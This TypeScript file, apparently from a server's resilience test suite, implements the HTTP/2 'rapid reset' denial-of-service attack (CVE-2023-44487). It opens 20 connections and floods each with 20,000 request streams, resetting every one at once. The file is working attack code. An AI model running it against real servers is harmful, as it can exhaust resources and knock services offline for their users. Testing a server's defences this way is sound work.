import { constants } from "node:http2";
import {
  flag,
  frameType,
  headersFrame,
  numberFrame,
  pseudo,
} from "../../../support/http2-frames.ts";
import type { Attack } from "./attack.ts";
import { openHttp2, pour } from "./wire.ts";

/** Streams that the client resets at once (CVE-2023-44487) cost little. */
export const rapidReset: Attack = {
  name: "rapid reset",
  sends: "20 connections × 20,000 requests, each reset at once",
  seconds: 4,
  async run(target) {
    const until = performance.now() + 3_000;
    const sockets = await openHttp2(target, 20);
    await Promise.all(sockets.map((socket) => pour(socket.resume(), resets(), until)));
    return [];
  },
};

function* resets(): Generator<Buffer> {
  const headers = pseudo("GET", "/v1/inventory");
  for (let n = 0; n < 20_000; n += 100) {
    yield Buffer.concat(
      Array.from({ length: 100 }, (_, m) => {
        const stream = 1 + 2 * (n + m);
        return Buffer.concat([
          headersFrame(stream, headers, flag.endHeaders | flag.endStream),
          numberFrame(frameType.rstStream, stream, constants.NGHTTP2_CANCEL),
        ]);
      }),
    );
  }
}
